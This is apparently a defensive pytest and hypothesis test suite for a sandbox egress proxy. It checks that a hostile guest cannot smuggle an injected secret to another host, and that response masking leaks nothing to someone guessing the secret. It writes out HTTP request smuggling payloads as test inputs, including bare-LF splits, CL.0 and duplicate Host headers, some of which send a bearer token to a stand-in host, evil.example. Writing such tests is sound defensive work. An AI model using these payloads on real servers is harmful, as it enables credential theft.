"""HTTP through the egress proxy when the guest is hostile (red team 3, items 1 and 2).

Requests are read strictly (RFC 9112): a head another parser could read differently (an upstream
that, like nginx, ends lines at a bare LF) is refused before anything of it, or anything after
it, reaches the server, so a value cannot be smuggled into a request for another Host. And the
response mask depends on whole values only: a host that echoes the request path gives a
guessing guest the same bytes, at the same boundaries, for a right and a wrong prefix."""
from __future__ import annotations

import asyncio
import re
import socket
import ssl

import pytest
from hypothesis import HealthCheck, given, settings, strategies as hs

from sandbox_kernel.policy import Secret
from sandbox_kernel.vm.accesslog import AccessRecord
from sandbox_kernel.vm.egress import BadRequest, EgressProxy, Reader, Request
from sandbox_kernel.vm.injection import ResponseEnds, Scrubber, SecretInjector

from .test_egress_secrets import VALUE, Hosts, assert_never_leaked, run


def tls_exchange(hosts: Hosts, data: bytes) -> bytes:
    """``data`` sent inside a CONNECT to the secret's host (TLS terminated by the proxy); all
    the guest receives until the proxy closes."""
    with socket.create_connection(("127.0.0.1", hosts.proxy_port), timeout=20) as sock:
        sock.sendall(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % ((hosts.https_port,) * 2))
        answer = b""
        while not answer.endswith(b"\r\n\r\n"):
            answer += sock.recv(1)
        assert answer.startswith(b"HTTP/1.1 200"), answer
        with hosts.client_tls().wrap_socket(sock, server_hostname="127.0.0.1") as tls:
            tls.sendall(data)
            chunks = []
            while True:
                try:
                    chunk = tls.recv(65536)
                except (ssl.SSLError, ConnectionError):
                    break
                if not chunk:
                    break
                chunks.append(chunk)
    return b"".join(chunks)


def lenient_heads(data: bytes) -> list[tuple[bytes, list[tuple[bytes, bytes]]]]:
    """The request heads a tolerant server finds in ``data``: lines end at LF (a CR before it
    dropped), folded lines continue a header, a body is skipped by Content-Length or by chunks
    when Transfer-Encoding mentions chunked. A head counts once it is complete."""
    lines = data.split(b"\n")
    heads = []
    i = 0

    def line() -> bytes | None:
        nonlocal i
        if i >= len(lines) - 1:  # the last piece has no LF: not a complete line
            return None
        text = lines[i][:-1] if lines[i].endswith(b"\r") else lines[i]
        i += 1
        return text

    def skip(count: int) -> bool:
        nonlocal lines, i
        rest = b"\n".join(lines[i:])
        if len(rest) < count:
            return False
        lines, i = rest[count:].split(b"\n"), 0
        return True

    while True:
        first = line()
        while first == b"":
            first = line()
        if first is None:
            return heads
        fields: list[tuple[bytes, bytes]] = []
        while (text := line()) not in (b"", None):
            if text[:1] in (b" ", b"\t") and fields:
                fields[-1] = (fields[-1][0], fields[-1][1] + b" " + text.strip())
            else:
                name, _, value = text.partition(b":")
                fields.append((name.strip(), value.strip()))
        if text is None:
            return heads
        heads.append((first, fields))
        values = {n.lower(): v for n, v in fields}
        if b"chunked" in values.get(b"transfer-encoding", b"").lower():
            while True:
                size_line = line()
                if size_line is None:
                    return heads
                size = int(m.group(), 16) if (m := re.match(rb"[0-9a-fA-F]+", size_line)) else 0
                if size == 0:
                    while (text := line()) not in (b"", None):
                        pass
                    if text is None:
                        return heads
                    break
                if not skip(size) or line() is None:
                    return heads
        elif (length := values.get(b"content-length", b"0").strip()).isdigit() and int(length):
            if not skip(int(length)):
                return heads


# ------------------------------------------------------------------ item 1: smuggling

SMUGGLE = (b"GET /first HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nX-Pad: a\n\nGET /smuggled HTTP/1.1\nHost: evil.example\r\n"
           b"Authorization: Bearer %s\r\n\r\n")


def test_a_bare_lf_cannot_smuggle_the_value_to_another_host(tmp_path):
    """The red team's request: one head to the proxy's CRLF reading, two to nginx's, the second
    for evil.example with the value. It is refused; the server gets nothing."""
    async def body(hosts: Hosts):
        payload = SMUGGLE % (hosts.https_port, hosts.placeholder.encode())
        return hosts, await asyncio.to_thread(tls_exchange, hosts, payload)
    hosts, reply = run(tmp_path, body)
    assert reply.startswith(b"HTTP/1.1 400") and b"bare CR or LF" in reply, reply
    assert hosts.seen == []
    [record] = hosts.log.records
    assert record.reason.startswith("bad request: bare CR or LF") and record.secrets == []
    assert_never_leaked(hosts, reply)


def test_a_pipelined_smuggle_after_a_good_request_gets_nothing(tmp_path):
    """A good request, then the smuggling one in the same write: every request received is
    checked before any is forwarded, so not even the good one goes out with the value."""
    async def body(hosts: Hosts):
        good = (b"GET /ok HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\n\r\n"
                % (hosts.https_port, hosts.placeholder.encode()))
        payload = good + b"POST /ok HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: 4\r\n\r\nbody" % hosts.https_port
        payload += SMUGGLE % (hosts.https_port, hosts.placeholder.encode())
        return hosts, await asyncio.to_thread(tls_exchange, hosts, payload)
    hosts, reply = run(tmp_path, body)
    assert reply.startswith(b"HTTP/1.1 400") and b"bare CR or LF" in reply, reply
    assert hosts.seen == []
    assert_never_leaked(hosts, reply)


def test_a_get_body_cannot_wait_for_the_next_requests_value(tmp_path):
    """CL.0: a server that ignores a GET's Content-Length reads its body as the start of another
    request, which the next request's head (with the value) completes. Such a request to a
    secret's host is refused before anything of it goes."""
    async def body(hosts: Hosts):
        partial = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\nX-Eat: "
        payload = (b"GET /first HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Length: %d\r\n\r\n"
                   % (hosts.https_port, len(partial)) + partial)
        payload += b"GET /next HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\n\r\n" % (
            hosts.https_port, hosts.placeholder.encode())
        return hosts, await asyncio.to_thread(tls_exchange, hosts, payload)
    hosts, reply = run(tmp_path, body)
    assert reply.startswith(b"HTTP/1.1 400") and b"GET request with a body" in reply, reply
    assert hosts.seen == []
    assert_never_leaked(hosts, reply)


def test_pipelined_good_requests_all_go(tmp_path):
    async def body(hosts: Hosts):
        one = b"GET /%d HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nAuthorization: Bearer %s\r\n\r\n"
        payload = b"".join(one % (i, hosts.https_port, hosts.placeholder.encode()) for i in range(3))
        payload += b"GET /last HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % hosts.https_port
        return hosts, await asyncio.to_thread(tls_exchange, hosts, payload)
    hosts, reply = run(tmp_path, body)
    assert reply.count(b"HTTP/1.1 200") == 4 and len(hosts.seen) == 4
    assert [VALUE.encode() in head for head in hosts.seen] == [True, True, True, False]


@pytest.mark.parametrize("head, reason", [
    (b"GET {t} HTTP/1.1\r\nHost: {h}\r\nX-Pad: a\nGET / HTTP/1.1\r\nAuthorization: {p}\r\n\r\n", "bare CR or LF"),
    (b"GET {t} HTTP/1.1\r\nHost: {h}\r\nX-Pad: a\rHost: evil.example\r\nAuthorization: {p}\r\n\r\n", "bare CR or LF"),
    (b"GET {t} HTTP/1.1\r\nHost: {h}\r\nX-Pad: a\r\n Host: evil.example\r\nAuthorization: {p}\r\n\r\n",
     "obsolete line folding"),
    (b"GET {t} HTTP/1.1\r\nHost: {h}\r\nX-Pad: a\x00b\r\nAuthorization: {p}\r\n\r\n", "control character"),
    (b"GET {t} HTTP/1.1\r\nHost: {h}\r\nX-Pad: a\x7fb\r\nAuthorization: {p}\r\n\r\n", "control character"),
    (b"GET {t} HTTP/1.1\r\nHost : {h}\r\nAuthorization: {p}\r\n\r\n", "malformed header line"),
    (b"GET {t} HTTP/1.1\r\nHost: {h}\r\nHost: evil.example\r\nAuthorization: {p}\r\n\r\n", "more than one Host"),
    (b"GET {t} HTTP/1.1\r\nHost: evil.example\r\nAuthorization: {p}\r\n\r\n", "names another host"),
    (b"GET {t} HTTP/1.1\r\nHost: {h} evil.example\r\nAuthorization: {p}\r\n\r\n", "invalid Host"),
    (b"GET {t} HTTP/1.1\r\nAuthorization: {p}\r\n\r\n", "no Host header"),
    (b"GET {t} HTTP/1.2\r\nHost: {h}\r\nAuthorization: {p}\r\n\r\n", "malformed request line"),
    (b"GET {t}\tx HTTP/1.1\r\nHost: {h}\r\nAuthorization: {p}\r\n\r\n", "malformed request line"),
    (b"POST {t} HTTP/1.1\r\nHost: {h}\r\nContent-Length: 5\r\nContent-Length: 5\r\nAuthorization: {p}\r\n\r\nhello",
     "invalid Content-Length"),
    (b"POST {t} HTTP/1.1\r\nHost: {h}\r\nContent-Length: 5, 5\r\nAuthorization: {p}\r\n\r\nhello",
     "invalid Content-Length"),
    (b"POST {t} HTTP/1.1\r\nHost: {h}\r\nContent-Length: +5\r\nAuthorization: {p}\r\n\r\nhello",
     "invalid Content-Length"),
    (b"POST {t} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: identity\r\nAuthorization: {p}\r\n\r\n",
     "Transfer-Encoding"),
    (b"POST {t} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n"
     b"Authorization: {p}\r\n\r\n0\r\n\r\n", "Transfer-Encoding"),
    (b"POST {t} HTTP/1.0\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\nAuthorization: {p}\r\n\r\n0\r\n\r\n",
     "Transfer-Encoding"),
])
def test_strictly_refused_heads(tmp_path, head, reason):
    """Plain HTTP to a port the secret is for: each head would get the value if accepted; it is
    refused with 400 and a record, and the server sees nothing."""
    async def body(hosts: Hosts):
        target, host = f"http://127.0.0.1:{hosts.http_port}/x".encode(), f"127.0.0.1:{hosts.http_port}".encode()
        request = head.replace(b"{t}", target).replace(b"{h}", host).replace(b"{p}", hosts.placeholder.encode())
        return hosts, await asyncio.to_thread(hosts.raw, request)
    hosts, reply = run(tmp_path, body, secret_hosts="127.0.0.1:{http}")
    assert reply.startswith(b"HTTP/1.1 400") and reason.encode() in reply, reply
    assert hosts.seen == []
    [record] = hosts.log.records
    assert record.verdict == "denied" and record.reason.startswith("bad request:") and reason in record.reason
    assert_never_leaked(hosts, reply)


@pytest.mark.parametrize("chunks, reason", [
    (b"5;x\n0\r\nhello\r\n0\r\n\r\n", "control character in a chunk-size line"),
    (b"5\r\nhelloXX0\r\n\r\n", "not followed by CRLF"),
    (b"5\r\nhello\r\n0\r\nX-T: a\nGET / HTTP/1.1\r\n\r\n", "control character"),
    (b"5\r\nhello\r\n0\r\nX-T: a\x00\r\n\r\n", "control character"),
    (b"0x5\r\nhello\r\n0\r\n\r\n", "invalid chunk size"),
    (b"5\r\nhello\r\n0\r\nHost: evil.example\r\n\r\n", "Host in chunked trailers"),
    (b"5;" + b"e" * 10000 + b"\r\nhello\r\n0\r\n\r\n", "line too long"),
    (b"5\r\nhello\r\n0\r\n" + b"X-T: a\r\n" * 1000 + b"X-Long: " + b"t" * 10000 + b"\r\n\r\n", "line too long"),
])
def test_chunked_bodies_are_framed_exactly(tmp_path, chunks, reason):
    """The body of a request is read as strictly as its head: a chunk line, the CRLF after a
    chunk and the trailers are checked, and what goes upstream is re-framed by the proxy."""
    async def body(hosts: Hosts):
        request = (f"POST http://127.0.0.1:{hosts.http_port}/up HTTP/1.1\r\nHost: 127.0.0.1:{hosts.http_port}\r\n"
                   f"Transfer-Encoding: chunked\r\nAuthorization: {hosts.placeholder}\r\n\r\n").encode() + chunks
        return hosts, await asyncio.to_thread(hosts.raw, request)
    hosts, reply = run(tmp_path, body, secret_hosts="127.0.0.1:{http}")
    assert reply.startswith(b"HTTP/1.1 400") and reason.encode() in reply, reply
    assert reason in hosts.log.records[0].reason
    forwarded = b"".join(hosts.seen)
    assert [first for first, _ in lenient_heads(forwarded)] == [b"POST /up HTTP/1.1"][:len(hosts.seen)]


def test_chunk_extensions_and_trailers_are_reframed(tmp_path):
    async def body(hosts: Hosts):
        request = (f"POST http://127.0.0.1:{hosts.http_port}/up HTTP/1.1\r\nHost: 127.0.0.1:{hosts.http_port}\r\n"
                   "Transfer-Encoding: chunked\r\n\r\n5 ; name=value\r\nhello\r\n0\r\nX-Trailer:  t \r\n\r\n").encode()
        received = []

        async def record(reader, writer):
            received.append(await reader.read())  # the proxy ends its side after the request
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            await writer.drain()
            writer.close()
        await hosts.replace_http(record)
        await asyncio.to_thread(hosts.raw, request)
        return received[0]
    seen = run(tmp_path, body)
    assert seen.endswith(b"\r\n\r\n5\r\nhello\r\n0\r\nX-Trailer: t\r\n\r\n"), seen


class UpstreamBytes:
    def __init__(self) -> None:
        self.data = bytearray()

    def write(self, data: bytes) -> None:
        self.data += data

    async def drain(self) -> None:
        pass

    def can_write_eof(self) -> bool:
        return False


class RecordingProxy(EgressProxy):
    """Remembers each request it forwards (method, origin target, headers as the guest sent them)."""

    def __init__(self, injector: SecretInjector) -> None:
        super().__init__([], injector=injector)
        self.forwarded: list[tuple[bytes, list[tuple[bytes, bytes]]]] = []

    async def _forward(self, request, target, *args, **kw):
        line = f"{request.method} {target} {request.version}".encode("latin-1")
        self.forwarded.append((line, [(n.encode("latin-1"), v) for n, v in request.headers]))
        return await super()._forward(request, target, *args, **kw)


SECRET_PORT = 8443
HOST = f"127.0.0.1:{SECRET_PORT}".encode()


async def _forward_all(data: bytes, pieces: list[int], injector: SecretInjector
                       ) -> tuple[bytes, list, BadRequest | None]:
    """``data`` through the requests loop of a terminated connection to the secret's host, read
    in ``pieces``; the bytes sent upstream, the requests forwarded and the refusal, if any."""
    chunks = []
    at = 0
    for size in pieces:
        chunks.append(data[at:at + size])
        at += size
    chunks = [c for c in chunks if c] + ([data[at:]] if data[at:] else [])

    async def read() -> bytes:
        return chunks.pop(0) if chunks else b""
    proxy = RecordingProxy(injector)
    upstream = UpstreamBytes()
    secrets = injector.for_target("127.0.0.1", SECRET_PORT)
    record = AccessRecord("CONNECT", "127.0.0.1", SECRET_PORT)
    try:
        await proxy._requests(Reader(read), upstream, "127.0.0.1", SECRET_PORT, secrets, record,
                              injector.scrubber(secrets))
    except BadRequest as e:
        return bytes(upstream.data), proxy.forwarded, e
    return bytes(upstream.data), proxy.forwarded, None


INJECTOR = SecretInjector([Secret("TOKEN", f"allow:127.0.0.1:{SECRET_PORT}", VALUE)])
PLACEHOLDER = INJECTOR.placeholders()["TOKEN"].encode()
HEADER_LINES = [
    b"Host: " + HOST, b"Host: " + HOST, b"Host: " + HOST, b"Host: evil.example", b"Host: 127.0.0.1",
    b"Authorization: Bearer " + PLACEHOLDER, b"X-Api-Key: " + PLACEHOLDER, b"Authorization: Bearer " + PLACEHOLDER,
    b"Content-Length: 5", b"Content-Length: 0", b"Content-Length: 12", b"Transfer-Encoding: chunked",
    b"Transfer-Encoding: gzip, chunked", b"Connection: close", b"Connection: keep-alive", b"X-Pad: a",
    b"X-Pad: a\nGET /s HTTP/1.1", b"X-Pad: a\rHost: evil.example", b" folded", b"\tfolded: x", b"X-Nul: a\x00b",
    b"Host : evil.example", b"X-Empty:", b"Accept-Encoding: gzip",
]
REQUEST_LINES = [b"GET / HTTP/1.1", b"POST /up HTTP/1.1", b"GET https://" + HOST + b"/abs HTTP/1.1",
                 b"GET https://evil.example/ HTTP/1.1", b"GET /x HTTP/1.0", b"OPTIONS * HTTP/1.1", b"GET * HTTP/1.1",
                 b"GET /a b HTTP/1.1", b"get /lower HTTP/1.1"]
BODIES = [b"", b"hello", b"5\r\nhello\r\n0\r\n\r\n", b"0\r\n\r\n", b"5;e=1\r\nhello\r\n0\r\nT: v\r\n\r\n",
          b"GET /s HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"hello world!"]
NOISE = [b"\n", b"\r", b"\r\n", b"\x00", b" ", b"\t", b":", b"\x7f", b"\xff", b"\r\n\r\n", b"0\r\n\r\n", b"\n\n"]


@hs.composite
def request_streams(draw) -> bytes:
    """A few pipelined requests from hostile parts, then random insertions of hostile bytes."""
    parts = []
    for _ in range(draw(hs.integers(1, 3))):
        lines = [draw(hs.sampled_from(REQUEST_LINES))]
        lines += draw(hs.lists(hs.sampled_from(HEADER_LINES), max_size=6))
        parts.append(b"\r\n".join(lines) + b"\r\n\r\n" + draw(hs.sampled_from(BODIES)))
    data = bytearray(b"".join(parts))
    for _ in range(draw(hs.integers(0, 3))):
        at = draw(hs.integers(0, len(data)))
        data[at:at] = draw(hs.sampled_from(NOISE) | hs.binary(max_size=3))
    return bytes(data)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(request_streams(), hs.lists(hs.integers(1, 64), max_size=8))
def test_forwarded_bytes_hold_exactly_the_checked_requests(data, pieces):
    """Whatever the guest sends: only the parser's refusal escapes; a strict reparse of what went
    upstream forwards the same bytes again (nothing lost or added); a tolerant server finds
    exactly the requests the proxy forwarded (no second request hiding in a head or body); and
    the value is only in requests whose target (origin form or *) and single Host are the
    secret's host."""
    upstream, forwarded, refusal = asyncio.run(_forward_all(data, pieces, INJECTOR))
    again, reparsed, second_refusal = asyncio.run(_forward_all(upstream, [], SecretInjector([])))
    assert again == upstream or (refusal is not None and upstream.startswith(again))
    if second_refusal is not None:  # only a request cut short by the first refusal
        assert refusal is not None and "closed" in str(second_refusal)
    assert [line for line, _ in reparsed] == [line for line, _ in forwarded]
    tolerant = lenient_heads(upstream)
    assert tolerant == reparsed
    for line, fields in tolerant:
        if any(VALUE.encode() in v for _, v in fields):
            target = line.split(b" ")[1]
            assert target.startswith(b"/") or target == b"*"
            assert [v for n, v in fields if n.lower() == b"host"] == [HOST]
    for line, fields in reparsed:  # no body on a method whose body a server may ignore (CL.0)
        if line.split(b" ")[0] in (b"GET", b"HEAD", b"OPTIONS", b"TRACE", b"DELETE"):
            assert not any(n.lower() == b"transfer-encoding" or (n.lower() == b"content-length" and v.strip() != b"0")
                           for n, v in fields), line
    for line, fields in forwarded:  # nothing the guest sent names the value itself
        assert all(VALUE.encode() not in v for _, v in fields)


AUTHORITY = hs.text("[]:@.%-_a1fF0 \t\r\n\x00/?#*", max_size=24).map(lambda t: t.encode("latin-1"))


@hs.composite
def authority_heads(draw) -> bytes:
    """Absolute and CONNECT targets and Host values from the characters authorities are made of."""
    method = draw(hs.sampled_from([b"GET", b"CONNECT"]))
    target = draw(AUTHORITY) if method == b"CONNECT" else draw(hs.sampled_from([b"http://", b"https://"])) + draw(
        AUTHORITY) + draw(hs.sampled_from([b"", b"/p", b"?q"]))
    hosts = b"".join(b"Host: " + draw(AUTHORITY) + b"\r\n" for _ in range(draw(hs.integers(0, 2))))
    return method + b" " + target + b" HTTP/1.1\r\n" + hosts + b"\r\n"


@settings(max_examples=400, deadline=None)
@given(hs.binary(max_size=300) | request_streams() | authority_heads())
def test_the_head_parser_refuses_cleanly(data):
    for head in (data, data + b"\r\n\r\n"):
        try:
            request = Request(head)
        except BadRequest:
            continue
        assert Request(request.serialize(request.target, request.headers)).headers == request.headers


# ------------------------------------------------------------------ item 2: the mask is no oracle

OTHER = "Z" * len(VALUE)  # a different secret of the same length


def _script_outputs(value: str, script: list[bytes | None], methods: int = 0) -> list[tuple[bytes, bool]]:
    """What a Scrubber for ``value`` gives for each step (bytes fed, or None: the stream pauses)
    and whether it holds something back (what the proxy's pause timer waits on); ``methods``
    GET requests went before."""
    scrubber = Scrubber([value.encode()])
    for _ in range(methods):
        scrubber.expect("GET")
    out = []
    for step in script:
        out.append((scrubber.flush() if step is None else scrubber.feed(step), scrubber.pending))
        assert len(scrubber.held) < len(value)  # bounded, whatever the host sends
    return out


@settings(max_examples=300, deadline=None)
@given(hs.integers(0, len(VALUE) - 1), hs.binary(max_size=40), hs.binary(max_size=40), hs.text("abcZ-7", max_size=25),
       hs.lists(hs.integers(0, 80) | hs.none(), max_size=10), hs.booleans())
def test_a_guess_changes_nothing_the_guest_sees(prefix, before, after, wrong, cuts, right):
    """A host echoes the guess (a right prefix of the value or a wrong string) amid other bytes;
    the response arrives in any chunks with any pauses. The guest gets the same bytes at the same
    boundaries, and the proxy holds back the same, as from a proxy with another secret."""
    guess = VALUE[:prefix].encode() if right else wrong.encode()
    response = before + guess + after
    if VALUE.encode() in response:
        return  # the guest sent the whole value: nothing left to learn
    script: list[bytes | None] = []
    at = 0
    for cut in cuts:
        if cut is None:
            script.append(None)
        else:
            script.append(response[at:at + cut])
            at += cut
    script += [response[at:], None]
    assert _script_outputs(VALUE, script) == _script_outputs(OTHER, script)
    assert b"".join(out for out, _ in _script_outputs(VALUE, script)) == response


def _not_found(path: bytes, chunked: bool) -> bytes:
    page = b"<h1>404</h1> not found: " + path
    if chunked:
        return b"HTTP/1.1 404 Not Found\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n" % (len(page), page)
    return b"HTTP/1.1 404 Not Found\r\nContent-Length: %d\r\n\r\n%s" % (len(page), page)


@settings(max_examples=300, deadline=None)
@given(hs.lists(hs.tuples(hs.integers(0, len(VALUE) - 1), hs.text("abcZ-7", max_size=25), hs.booleans(),
                          hs.booleans()), min_size=1, max_size=4),
       hs.lists(hs.integers(0, 120) | hs.none(), max_size=12))
def test_a_guess_changes_nothing_in_whole_responses(guesses, cuts):
    """The same with HTTP responses (kept alive, Content-Length or chunked), where the end of a
    response releases the held tail at once: that depends on the framing only."""
    stream = b"".join(_not_found(VALUE[:n].encode() if right else wrong.encode(), chunked)
                      for n, wrong, right, chunked in guesses)
    if VALUE.encode() in stream:
        return
    script: list[bytes | None] = []
    at = 0
    for cut in cuts:
        script.append(None if cut is None else stream[at:at + cut])
        at += cut or 0
    script.append(stream[at:])
    mine = _script_outputs(VALUE, script, len(guesses))
    assert mine == _script_outputs(OTHER, script, len(guesses))
    assert b"".join(out for out, _ in mine) == stream  # all of it, with no pause at the end
    assert not mine[-1][1]


RESPONSES = [b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello", b"HTTP/1.1 204 No Content\r\n\r\n",
             b"HTTP/1.1 304 Not Modified\r\nContent-Length: 99\r\n\r\n",
             b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
             b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;x=1\r\nabc\r\n0\r\nT: v\r\n\r\n"]


@settings(max_examples=300, deadline=None)
@given(hs.lists(hs.sampled_from(range(len(RESPONSES))) | hs.just(-1), min_size=1, max_size=5),
       hs.lists(hs.integers(1, 40), max_size=10), hs.binary(max_size=40))
def test_response_ends_follow_the_framing(picks, cuts, garbage):
    """The stream is at a response's end exactly where one (or an interim one) ends; a HEAD's
    has no body. After bytes it cannot follow it never says so again."""
    ends = ResponseEnds()
    stream, boundaries = b"", set()
    for pick in picks:
        ends.expect("HEAD" if pick == -1 else "GET")
        if pick != -1 and RESPONSES[pick].startswith(b"HTTP/1.1 100"):  # an interim response ends too
            boundaries.add(len(stream) + RESPONSES[pick].index(b"\r\n\r\n") + 4)
        stream += b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\n" if pick == -1 else RESPONSES[pick]
        boundaries.add(len(stream))
    at = 0
    for cut in cuts + [len(stream)]:
        piece = stream[at:at + cut]
        at += len(piece)
        if piece:
            assert ends.feed(piece) == (at in boundaries)
    ends.feed(b"HTTP/1.1 200 OK\r\nUpgrade: x\r\n\r\n" + garbage)  # a response to no request: lost
    assert ends.state == "lost" and not ends.feed(RESPONSES[0]) and len(ends.line) <= ResponseEnds.MAX_HEAD


@settings(max_examples=200, deadline=None)
@given(hs.binary(max_size=3000), hs.lists(hs.integers(1, 700), max_size=6))
def test_response_ends_take_any_bytes(data, cuts):
    ends = ResponseEnds()
    ends.expect("GET")
    at = 0
    for cut in cuts + [len(data)]:
        ends.feed(data[at:at + cut])
        at += cut
        assert len(ends.line) <= ResponseEnds.MAX_HEAD


@settings(max_examples=200, deadline=None)
@given(hs.binary(max_size=60), hs.binary(max_size=60), hs.lists(hs.integers(1, 30), max_size=8), hs.booleans())
def test_whole_values_are_masked_across_any_chunks(before, after, cuts, framed):
    response = before + VALUE.encode() + after + VALUE.encode()
    if framed:
        response = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(response) + response
    scrubber = Scrubber([VALUE.encode()])
    scrubber.expect("GET")
    out, at = [], 0
    for cut in cuts:
        out.append(scrubber.feed(response[at:at + cut]))
        at += cut
    out += [scrubber.feed(response[at:]), scrubber.flush()]
    joined = b"".join(out)
    assert len(joined) == len(response) and VALUE.encode() not in joined
    assert joined == response.replace(VALUE.encode(), b"*" * len(VALUE))


def test_an_echoing_host_answers_every_guess_alike(tmp_path):
    """End to end, on one kept-alive terminated connection: the secret's host answers any path
    with a 404 page ending in it; the guest tries every prefix of the value and wrong guesses,
    and reads exactly the page the host sent (no mask: no request carried the value)."""
    guesses = [VALUE[:n] for n in range(1, len(VALUE))] + ["s3cret-WRONG", "nothing"]

    async def body(hosts: Hosts):
        async def not_found(reader, writer):
            try:
                while True:
                    head = await reader.readuntil(b"\r\n\r\n")
                    page = b"not found: " + head.split(b" ")[1][1:]
                    writer.write(b"HTTP/1.1 404 Not Found\r\nContent-Length: %d\r\n\r\n" % len(page) + page)
                    await writer.drain()
            except (asyncio.IncompleteReadError, ConnectionError, ssl.SSLError):
                pass
            writer.close()
        await hosts.replace_https(not_found)
        return await asyncio.to_thread(hosts.https_get, ["/" + g for g in guesses], {})
    answers = run(tmp_path, body)
    assert answers == [(404, b"not found: " + g.encode()) for g in guesses]


def test_a_query_without_a_path_goes_upstream_in_origin_form(tmp_path):
    async def body(hosts: Hosts):
        request = (f"GET http://127.0.0.1:{hosts.http_port}?q=1 HTTP/1.1\r\n"
                   f"Host: 127.0.0.1:{hosts.http_port}\r\n\r\n").encode()
        return hosts, await asyncio.to_thread(hosts.raw, request)
    hosts, reply = run(tmp_path, body)
    assert reply.startswith(b"HTTP/1.1 200") and hosts.seen[0].startswith(b"GET /?q=1 HTTP/1.1\r\n")
